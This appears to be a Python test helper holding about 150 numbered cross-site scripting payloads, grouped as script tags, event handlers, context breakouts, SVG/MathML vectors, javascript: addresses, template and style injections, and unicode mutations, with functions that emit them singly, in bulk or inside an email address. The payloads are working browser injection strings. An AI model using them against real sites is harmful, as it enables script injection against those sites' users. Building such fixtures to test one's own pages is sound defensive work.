"""What somebody could type to make a page run their script: written for this site, each told apart by a number.

OWN stands for the call that a browser makes when it runs the payload, CODED for the same in numbers, SHOUT for a
dialog. Nothing here is escaped: that is what the pages are for."""

TAGS = (
    "<script>OWN</script>",
    "<ScRiPt>OWN</sCrIpT>",
    "<script >OWN</script >",
    "<script\n>OWN</script\n>",
    "<script/x>OWN</script>",
    "<script>SHOUT</script>",
    "<<script>OWN;//<</script>",
    "<scr<script>ipt>OWN</script>",
    "<script src=data:text/javascript,OWN></script>",
    "<script type=module>OWN</script>",
    "<script async src='data:,OWN'></script>",
    "<script>/*-->*/OWN</script>",
    "<iframe srcdoc='<script>parent.OWN</script>'></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=parent.OWN&gt;"></iframe>',
    "<iframe src=javascript:parent.OWN></iframe>",
    "<object data=javascript:OWN></object>",
    "<object data='data:text/html,<script>OWN</script>'></object>",
    "<embed src=javascript:OWN>",
    "<iframe src='data:text/html,<script>OWN</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:OWN'>",
    "<base href=javascript:OWN//>",
    "<link rel=stylesheet href=x: onerror=OWN>",
    "<template shadowrootmode=open><img src=x onerror=OWN></template>",
    "<portal src=javascript:OWN></portal>",
    "<frameset onload=OWN><frame></frameset>",
)
HANDLERS = (
    "<img src=x onerror=OWN>",
    "<img src=x onerror=SHOUT>",
    "<IMG SRC=x ONERROR=OWN>",
    "<img/src='x'/onerror=OWN>",
    "<img src=x\tonerror=OWN>",
    "<img src=x\x0conerror=OWN>",
    "<img src='x'onerror='OWN'>",
    "<img src=`x` onerror=`x`onerror=OWN>",
    "<img src=x onerror=CODED>",
    "<img src=x onerror=OWN ",
    "<img src=x onerror=OWN//",
    "<image src=x onerror=OWN>",
    "<video src=x onerror=OWN></video>",
    "<video><source onerror=OWN></video>",
    "<audio src=x onerror=OWN></audio>",
    "<picture><img src=x onerror=OWN></picture>",
    "<input autofocus onfocus=OWN>",
    "<select autofocus onfocus=OWN></select>",
    "<textarea autofocus onfocus=OWN></textarea>",
    "<button autofocus onfocus=OWN>b</button>",
    "<a href=# autofocus tabindex=1 onfocus=OWN>a</a>",
    "<div tabindex=0 autofocus onfocus=OWN>d</div>",
    "<details open ontoggle=OWN>d</details>",
    "<dialog open onbeforetoggle=OWN onfocus=OWN>d</dialog>",
    "<style onload=OWN></style>",
    "<link rel=preload href=/ as=image onload=OWN onerror=OWN>",
    "<body onload=OWN>",
    "<body onpageshow=OWN>",
    "<marquee onstart=OWN>m</marquee>",
    "<p onmouseover=OWN>p</p>",
    "<form onformdata=OWN onfocus=OWN><input name=x></form>",
    "<object onerror=OWN data=x:></object>",
    "<x onfocus=OWN tabindex=1 autofocus id=x></x>",
    "<div onpointerenter=OWN onerror=OWN>d</div>",
    "<img srcset=x onerror=OWN>",
    "<track onerror=OWN><video><track default src=x onerror=OWN></video>",
)
BREAKS = (
    '"><script>OWN</script>',
    "'><script>OWN</script>",
    '"><img src=x onerror=OWN>',
    "'><img src=x onerror=OWN>",
    '" autofocus onfocus=OWN x="',
    "' autofocus onfocus=OWN x='",
    '" onerror=OWN src=x "',
    "x onerror=OWN onfocus=OWN autofocus",
    "`><img src=x onerror=OWN>",
    "</title><script>OWN</script>",
    "</textarea><script>OWN</script>",
    "</script><script>OWN</script>",
    "</style><script>OWN</script>",
    "</noscript><script>OWN</script>",
    "</option></select><script>OWN</script>",
    "</xmp><img src=x onerror=OWN>",
    "</iframe><img src=x onerror=OWN>",
    "</template><img src=x onerror=OWN>",
    "</svg><img src=x onerror=OWN>",
    "</desc></svg><script>OWN</script>",
    "</button></form><img src=x onerror=OWN>",
    "--><script>OWN</script><!--",
    "--!><img src=x onerror=OWN><!--",
    "]]><script>OWN</script><![CDATA[",
    "<!--><img src=x onerror=OWN>-->",
    "<![CDATA[<script>OWN</script>]]>",
    "<?xml version='1.0'?><img src=x onerror=OWN>",
    "';OWN;//",
    '";OWN;//',
    "\\';OWN;//",
    "`;OWN;//",
    "${OWN}",
    "*/OWN/*",
    "\nOWN//",
    "'-OWN-'",
    '"+OWN+"',
    '=1+1|"<img src=x onerror=OWN>"',
    'a,b\r\n"<script>OWN</script>";c',
)
VECTORS = (
    "<svg onload=OWN>",
    "<svg/onload=OWN>",
    "<svg><script>OWN</script></svg>",
    "<svg><script href=data:,OWN></script></svg>",
    "<svg><animate onbegin=OWN attributeName=x dur=1s></svg>",
    "<svg><set onbegin=OWN attributeName=x></svg>",
    "<svg><a xlink:href=javascript:OWN><text y=9>a</text></a></svg>",
    "<svg><image href=x onerror=OWN></svg>",
    "<svg><foreignObject><img src=x onerror=OWN></foreignObject></svg>",
    "<svg><style><img src=x onerror=OWN></style></svg>",
    "<svg><title><img src=x onerror=OWN></title></svg>",
    "<math><mtext><img src=x onerror=OWN></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:OWN>m</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=OWN></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=OWN></annotation-xml></math>",
)
ADDRESSES = (
    "javascript:OWN",
    "JaVaScRiPt:OWN",
    "java\tscript:OWN",
    "\x01javascript:OWN",
    "javascript://northtown.example/%0aOWN",
    "vbscript:OWN",
    "data:text/html,<script>OWN</script>",
    "data:image/svg+xml,<svg onload=OWN xmlns='http://www.w3.org/2000/svg'/>",
    'https://northtown.example/"onfocus=OWN/autofocus/x="',
    "https://northtown.example/'><img/src='x'/onerror=OWN>",
    "http://northtown.example/<svg/onload=OWN>",
    '//northtown.example/"><svg/onload=OWN>',
    "<a href=javascript:OWN>a</a>",
    "<form action=javascript:OWN><button>b</button></form>",
    "<button formaction=javascript:OWN>b</button>",
    "[a](javascript:OWN)",
    '![a](x"onerror="OWN)',
)
TEMPLATES_AND_STYLES = (
    "{{7*7}}<img src=x onerror=OWN>",
    "{% autoescape off %}<script>OWN</script>{% endautoescape %}",
    "{{ request|safe }}{% load i18n %}{# <script>OWN</script> #}",
    "{% comment %}<script>OWN</script>{% endcomment %}",
    "{{constructor.constructor('OWN')()}}",
    "#{OWN}<%= OWN %>${{OWN}}",
    "<style>@import 'javascript:OWN';</style>",
    '<div style="background:url(javascript:OWN)">d</div>',
    '<div style="width:expression(OWN)">d</div>',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=OWN>p</p>',
    "%(name)s%s{0}<img src=x onerror=OWN>",
    "%3Cscript%3EOWN%3C/script%3E",
)
UNICODE_AND_MUTATIONS = (
    "\uff1cscript\uff1eOWN\uff1c/script\uff1e",
    "\u02bcscript\u02bdOWN<\u200bscript>OWN</script>",
    "<script\u2028>OWN</script>",
    "\u202e<img src=x onerror=OWN>\u202c",
    "\ufeff<script>OWN</script>",
    "<img src=x onerror\u00a0=OWN onerror=OWN>",
    "\u00bcscript\u00beOWN\u00bc/script\u00be",
    "+ADw-script+AD4-OWN+ADw-/script+AD4-",
    "&lt;script&gt;OWN&lt;/script&gt;",
    "&#60;script&#62;OWN&#60;/script&#62;",
    "\\u003cscript\\u003eOWN\\u003c/script\\u003e",
    "\\x3cscript\\x3eOWN\\x3c/script\\x3e",
    '<noscript><p title="</noscript><img src=x onerror=OWN>">',
    "<listing>&lt;img src=x onerror=OWN&gt;</listing>",
    '<p id="&quot;><img src=x onerror=OWN>">p',
    "<table><td background=x><img src=x onerror=OWN></td></table>",
    "<select><option><style></option></select><img src=x onerror=OWN></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=OWN>",
    "<a id=\"x\ny\" title='\n<img src=x onerror=OWN>'>a</a><img src=x onerror=OWN>",
    "\u0130<\u0131mg src=x onerror=OWN><img src=x onerror=OWN>",
)
EVERY = (*TAGS, *HANDLERS, *BREAKS, *VECTORS, *ADDRESSES, *TEMPLATES_AND_STYLES, *UNICODE_AND_MUTATIONS)
# What people see of it, and what tests look for.
CALL = "__owned"


def payload(number: int) -> str:
    """The payload of this number; it names its number when it runs."""
    text, call = EVERY[number % len(EVERY)], f"{CALL}({number})"
    coded = "".join(f"&#{ord(each)};" for each in call)
    return text.replace("OWN", call).replace("CODED", coded).replace("SHOUT", f"alert('{CALL}:{number}')")


def all_lines(first: int = 0, count: int = len(EVERY)) -> str:
    """All of them, one a line and beginning with any: a page that swallows what follows one still meets the others."""
    return "\n".join(payload((first + step) % len(EVERY)) for step in range(count))


def in_one_line(first: int = 0, count: int = len(EVERY)) -> str:
    """The same for boxes of one line."""
    return " ".join(all_lines(first, count).split())


def as_address(number: int, name: str = "", host: str = "northtown.example") -> str:
    """An e-mail address whose first half is a payload: quoted, it is a right one."""
    return f"\"<img/src='x'/onerror={CALL}({number})>{name}\"@{host}"
